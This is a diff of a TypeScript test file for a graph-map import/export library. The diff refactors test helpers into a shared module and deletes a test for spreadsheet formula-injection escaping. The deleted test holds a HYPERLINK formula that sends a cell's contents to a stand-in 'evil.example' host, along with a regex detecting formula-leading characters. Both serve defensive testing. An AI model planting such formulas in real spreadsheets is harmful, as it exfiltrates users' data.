@@ -1,44 +1,14 @@
-import { readFileSync } from 'node:fs';
-import Papa from 'papaparse';
-import readXlsxFile from 'read-excel-file/universal';
 import { describe, expect, it } from 'vitest';
-import * as Y from 'yjs';
 import { readSnapshot } from '../schema/snapshot';
-import type { MapSnapshot } from '../schema/types';
-import { applyImport } from './apply';
-import { exportAny, importAny, type FormatId, type FormatInput } from './formats';
+import { importAny, type FormatId } from './formats';
 import { importGexf } from './gexf';
 import { importGraphml } from './graphml';
 import { importJsonCanvas } from './json-canvas';
 import { importKumuCsv } from './kumu-csv';
 import { exportKumuJson, importKumuJson } from './kumu-json';
 import { importKumuXlsx } from './kumu-xlsx';
-import { formatProblem, MAX_IMPORT_BYTES, type ImportedMap, type ImportResult } from './model';
-
-const fixture = (name: string): Uint8Array =>
-  new Uint8Array(readFileSync(new URL(`../../test/fixtures/formats/${name}`, import.meta.url)));
-
-function ok(r: ImportResult): ImportedMap {
-  if (!r.ok) throw new Error(r.problems.map(formatProblem).join('\n'));
-  return r.map;
-}
-
-function refused(r: ImportResult): string[] {
-  expect(r.ok).toBe(false);
-  return r.problems.map(formatProblem);
-}
-
-function applied(map: ImportedMap): MapSnapshot {
-  const ctx = { doc: new Y.Doc(), origin: 'test', userId: 'tester' };
-  applyImport(ctx, map, { mode: 'new' });
-  return readSnapshot(ctx.doc);
-}
-
-const byLabel = (s: MapSnapshot, label: string) => {
-  const e = [...s.elements.values()].find((x) => x.label === label);
-  if (!e) throw new Error(`no element '${label}'`);
-  return e;
-};
+import { formatProblem, MAX_IMPORT_BYTES } from './model';
+import { applied, byLabel, fixture, ok, refused } from './test-fixtures';
 
 describe('files shaped the way other tools write them', () => {
   it('reads a Kumu JSON blueprint: types to kinds, polarity words, labels as references, the loop', () => {
@@ -365,33 +335,6 @@ describe('hostile and broken files', () => {
     expect(refused(importKumuCsv({ elements: fixture('duplicate-ids-elements.csv') }))).toEqual([
       "Elements row 4: Duplicate ID 'el-1': another element has it.",
     ]);
-  });
-
-  it('keeps formula-like cells as text on import and escapes them on CSV and XLSX export', async () => {
-    const s = applied(ok(importKumuCsv({ elements: fixture('formula-elements.csv') })));
-    const labels = [...s.elements.values()].map((e) => e.label).sort();
-    expect(labels).toEqual(['-2+3', '=HYPERLINK("http://evil.example/?x="&A1,"Click")']);
-    const first = byLabel(s, '-2+3');
-    expect(first.description).toBe('=already escaped');
-    const dangerous = /^[=+\-@\t\r]/;
-    const [csvElements] = await exportAny(s, 'kumu-csv');
-    const rows = Papa.parse<string[]>((csvElements!.data as string).slice(1)).data.flat();
-    expect(rows.filter((c) => dangerous.test(c))).toEqual([]);
-    expect(rows).toContain("'-2+3");
-    expect(rows).toContain("'=already escaped");
-    const [xlsx] = await exportAny(s, 'kumu-xlsx');
-    const sheets = await readXlsxFile((xlsx!.data as Uint8Array).slice().buffer);
-    const cells = sheets
-      .flatMap((sh) => sh.data.flat())
-      .filter((c): c is string => typeof c === 'string');
-    expect(cells.filter((c) => dangerous.test(c))).toEqual([]);
-    expect(cells).toContain('\'=HYPERLINK("http://evil.example/?x="&A1,"Click")');
-    // And the escaped files read back to the same text.
-    const again = applied(
-      ok(await importAny({ elements: csvElements!.data as string } as FormatInput, 'kumu-csv')),
-    );
-    expect([...again.elements.values()].map((e) => e.label).sort()).toEqual(labels);
-    expect(byLabel(again, '-2+3').description).toBe('=already escaped');
   });
 
   it('refuses malformed XML with its line, and files that are not the format', () => {
